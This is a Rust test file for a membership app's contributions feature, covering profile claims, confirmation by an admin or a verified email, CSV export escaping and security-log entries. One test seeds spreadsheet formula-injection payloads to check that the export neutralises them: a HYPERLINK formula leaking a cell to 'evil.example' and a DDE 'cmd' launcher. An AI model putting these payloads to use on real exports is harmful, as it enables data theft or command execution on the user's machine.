//! Contributions' promises to members and the treasurer: a member only claims an Open Collective
//! profile (nothing moves until an export's email or an admin confirms it, and the answer never says
//! who holds a profile); the treasurer's CSV writes typed text as text, never a formula; every admin
//! action on tiers, grants, links and money is in the security log.
use crate::contributions::import_rows;
use crate::membership::{PW, give, tier_of, tiers};
use crate::on_both_databases;
use crate::support::database::Db;
use crate::support::{Answer, Browser, TestApp};

/// What a claim answers, all of it: status, where it sends the browser, and its body.
fn said(answer: &Answer) -> (u16, Option<String>, String) {
    let location = answer.headers.get("location").map(|l| l.to_str().unwrap().to_string());
    (answer.status, location, format!("{:?}", answer.result))
}

async fn mine(member: &Browser) -> serde_json::Value {
    member.call("contributions/mine", &[]).await.ok().clone()
}

/// The `member` column of the treasurer's export, one per contribution, in order.
async fn exported_members(admin: &Browser) -> Vec<String> {
    let body = admin.get("/api/contributions/export.csv").await.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let at = reader.headers().unwrap().iter().position(|h| h == "member").unwrap();
    reader.records().map(|r| r.unwrap()[at].to_string()).collect()
}

async fn a_claimed_profile_moves_nothing_until_an_admin_confirms_it(db: Db) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin("admin@example.coop").await;
    tiers(&admin).await;
    let alice = app.member("Alice", "alice@example.org", PW).await;
    let mallory = app.member("Mallory", "mallory@example.org", PW).await;
    import_rows(&app, &[("rich", "rich@donor.example", "50.00"), ("alice-c", "alice@example.org", "10.00")]).await;
    assert_eq!(tier_of(&alice).await.0, "Supporter", "matched by her verified email");
    let before = exported_members(&admin).await;

    // A stranger's profile, a member's, one nobody has: the same answer, and nothing moves.
    let held = said(&mallory.call("contributions/profile", &[("slug", "alice-c")]).await);
    let free = said(&mallory.call("contributions/profile", &[("slug", "https://opencollective.com/nobody-yet")]).await);
    let unlinked = said(&mallory.call("contributions/profile", &[("slug", "rich")]).await);
    assert_eq!(held, free, "a claim never says who holds a profile");
    assert_eq!(held, unlinked);
    assert_eq!(tier_of(&mallory).await.0, "Free", "a stranger's 50 EUR a month is not hers");
    let page = mine(&mallory).await;
    assert_eq!(page["contributions"], serde_json::json!([]), "nor his history");
    assert_eq!((page["profile"].clone(), page["waiting"].as_str()), (serde_json::Value::Null, Some("rich")));
    assert_eq!(exported_members(&admin).await, before, "the treasurer's export credits nobody new");
    assert_eq!(tier_of(&alice).await.0, "Supporter", "and Alice keeps hers");
    assert_eq!(mine(&alice).await["contributions"].as_array().unwrap().len(), 1);

    // The admin sees one claim per member (the latest), and who holds the profile already.
    let bob = app.member("Bob", "bob@example.org", PW).await;
    bob.call("contributions/profile", &[("slug", "alice-c")]).await.ok();
    let claims = admin.call("contributions/admin", &[]).await.ok()["claims"].clone();
    let listed: Vec<(&str, &str, Option<&str>)> = claims
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["email"].as_str().unwrap(), c["profile"].as_str().unwrap(), c["holder"].as_str()))
        .collect();
    assert_eq!(
        listed,
        [("mallory@example.org", "rich", None), ("bob@example.org", "alice-c", Some("alice@example.org"))]
    );
    let (mallorys, bobs) = (claims[0]["id"].to_string(), claims[1]["id"].to_string());
    assert_eq!(
        bob.call("contributions/confirm_claim", &[("claim", &bobs)]).await.err(),
        &app::error::AppError::Forbidden
    );
    admin.call("contributions/refuse_claim", &[("claim", &bobs)]).await.ok();
    assert_eq!(mine(&bob).await["waiting"], serde_json::Value::Null, "refused: forgotten");
    assert_eq!(tier_of(&alice).await.0, "Supporter");

    // Confirmed by an admin: the profile, its past and its future are the member's.
    admin.call("contributions/confirm_claim", &[("claim", &mallorys)]).await.ok();
    assert_eq!(tier_of(&mallory).await.0, "Assembly");
    let page = mine(&mallory).await;
    assert_eq!((page["profile"].as_str(), page["waiting"].clone()), (Some("rich"), serde_json::Value::Null));
    assert!(exported_members(&admin).await.contains(&"Mallory".to_string()));
    assert_eq!(admin.call("contributions/admin", &[]).await.ok()["claims"], serde_json::json!([]));
}
on_both_databases!(a_claimed_profile_moves_nothing_until_an_admin_confirms_it);

async fn a_claim_is_confirmed_by_the_members_verified_email_in_an_export(db: Db) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin("admin@example.coop").await;
    tiers(&admin).await;
    // Claimed before the export: the export's email for the profile is hers.
    let dai = app.member("Dai", "dai@example.org", PW).await;
    dai.call("contributions/profile", &[("slug", "dai-oc")]).await.ok();
    assert_eq!(mine(&dai).await["waiting"], "dai-oc");
    // Erin's profile is imported before she signs up; her claim afterwards finds its email.
    import_rows(&app, &[("dai-oc", "dai@example.org", "10.00"), ("erin-oc", "erin@example.org", "30.00")]).await;
    let page = mine(&dai).await;
    assert_eq!((page["profile"].as_str(), page["waiting"].clone()), (Some("dai-oc"), serde_json::Value::Null));
    assert_eq!(tier_of(&dai).await.0, "Supporter");
    let erin = app.member("Erin", "erin@example.org", PW).await;
    assert_eq!(tier_of(&erin).await.0, "Free");
    erin.call("contributions/profile", &[("slug", "erin-oc")]).await.ok();
    assert_eq!(tier_of(&erin).await.0, "Assembly");
    // An address nobody verified proves nothing: Fay never confirmed hers.
    import_rows(&app, &[("fay-oc", "fay@example.org", "30.00")]).await;
    app.browser().signup("Fay", "fay@example.org", PW).await.ok();
    let fay: Option<i64> = sqlx::query_scalar("SELECT user_id FROM contributors WHERE external_key = 'fay-oc'")
        .fetch_one(&app.pool)
        .await
        .unwrap();
    assert_eq!(fay, None);
}
on_both_databases!(a_claim_is_confirmed_by_the_members_verified_email_in_an_export);

async fn the_treasurers_export_writes_typed_text_never_a_formula(db: Db) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin("admin@example.coop").await;
    app.member("=HYPERLINK(\"https://evil.example/?\"&A1,\"Paid\")", "eve@example.org", PW).await;
    let id = give(&app, &admin, "eve@example.org", "25", "EUR", "oneoff").await.to_string();
    let date = crate::schedule::day(&app, 0);
    let form = [
        ("id", id.as_str()),
        ("email", "eve@example.org"),
        ("amount", "25"),
        ("currency", "EUR"),
        ("date", date.as_str()),
        ("frequency", "oneoff"),
        ("source", "bank"),
        ("reference", "+SUM(1)"),
        ("note", "@cmd|' /C calc'!A0"),
    ];
    admin.call("contributions/save", &form).await.ok();
    let body = admin.get("/api/contributions/export.csv").await.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    let get = |name: &str| rows[0][header.iter().position(|h| h == name).unwrap()].to_string();
    assert_eq!(get("member"), "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Paid\")");
    assert_eq!((get("reference"), get("note")), ("'+SUM(1)".into(), "'@cmd|' /C calc'!A0".into()));
    assert_eq!((get("amount"), get("email")), ("25.00".into(), "eve@example.org".into()), "the rest as it was");
}
on_both_databases!(the_treasurers_export_writes_typed_text_never_a_formula);

async fn every_admin_action_on_tiers_grants_links_and_money_is_in_the_security_log(db: Db) {
    let app = TestApp::spawn(db).await;
    let admin = app.admin("admin@example.coop").await;
    let ann = app.member("Ann", "ann@example.org", PW).await;
    tiers(&admin).await;
    let pool = &app.pool;
    let id = move |sql: &'static str| async move { sqlx::query_scalar::<_, i64>(sql).fetch_one(pool).await.unwrap() };
    let assembly = id("SELECT id FROM tiers WHERE name = 'Assembly'").await.to_string();
    let change = [("id", assembly.as_str()), ("name", "Assembly"), ("monthly", "40"), ("currency", "EUR")];
    admin.call("membership/tier", &change).await.ok();
    let ends = crate::schedule::day(&app, 30);
    let grant = [("email", "ann@example.org"), ("tier", assembly.as_str()), ("ends", ends.as_str()), ("note", "")];
    admin.call("membership/grant", &grant).await.ok();
    let granted = id("SELECT id FROM tier_grants").await.to_string();
    admin.call("membership/revoke", &[("id", &granted)]).await.ok();
    admin.call("membership/tier_delete", &[("id", &assembly)]).await.ok();

    let given = give(&app, &admin, "ann@example.org", "25,50", "EUR", "monthly").await.to_string();
    let date = crate::schedule::day(&app, 0);
    let correction = [
        ("id", given.as_str()),
        ("email", "ann@example.org"),
        ("amount", "52.50"),
        ("currency", "EUR"),
        ("date", date.as_str()),
        ("frequency", "monthly"),
        ("source", "bank"),
    ];
    admin.call("contributions/save", &correction).await.ok();
    admin.call("contributions/delete", &[("id", &given)]).await.ok();
    admin.upload("contributions/upload", "export.csv", crate::contributions::EXPORT.as_bytes()).await.ok();
    let carla = id("SELECT id FROM contributors WHERE external_key = 'carla'").await.to_string();
    admin.call("contributions/link", &[("contributor", &carla), ("email", "ann@example.org")]).await.ok();

    let logged = || async {
        let events: Vec<(String, String, String)> = sqlx::query_as(
            "SELECT kind, subject, detail FROM security_events WHERE kind NOT LIKE 'login.%' ORDER BY id",
        )
        .fetch_all(pool)
        .await
        .unwrap();
        events
    };
    let expected = [
        ("tier.changed", "Free", "created".to_string()),
        ("tier.changed", "Supporter", "created".into()),
        ("tier.changed", "Assembly", "created".into()),
        ("tier.changed", "Assembly", "changed".into()),
        ("grant.changed", "ann@example.org", format!("given: Assembly until {ends}")),
        ("grant.changed", "ann@example.org", "revoked: Assembly".into()),
        ("tier.changed", "Assembly", "deleted".into()),
        ("contribution.changed", &format!("#{given}"), "added".into()),
        ("contribution.changed", &format!("#{given}"), "corrected".into()),
        ("contribution.changed", &format!("#{given}"), "deleted".into()),
        ("contributions.imported", "export.csv", "added 5, refunds 1".into()),
        ("contributor.linked", "ann@example.org", "carla".into()),
    ];
    let mut expected: Vec<(String, String, String)> =
        expected.into_iter().map(|(k, s, d)| (k.to_string(), s.to_string(), d)).collect();
    assert_eq!(logged().await, expected);
    ann.call("contributions/profile", &[("slug", "dai")]).await.ok();
    let claim = id("SELECT id FROM contributor_claims").await.to_string();
    admin.call("contributions/confirm_claim", &[("claim", &claim)]).await.ok();
    expected.push(("contributor.linked".into(), "ann@example.org".into(), "dai (claim)".into()));
    assert_eq!(logged().await, expected, "a confirmed claim too");
    // And an admin finds them by their kind.
    let found = admin.call("admin/security_log", &[("kind", "contributor.linked"), ("query", ""), ("page", "0")]).await;
    assert_eq!(found.ok().as_array().unwrap().len(), 2);
}
on_both_databases!(every_admin_action_on_tiers_grants_links_and_money_is_in_the_security_log);
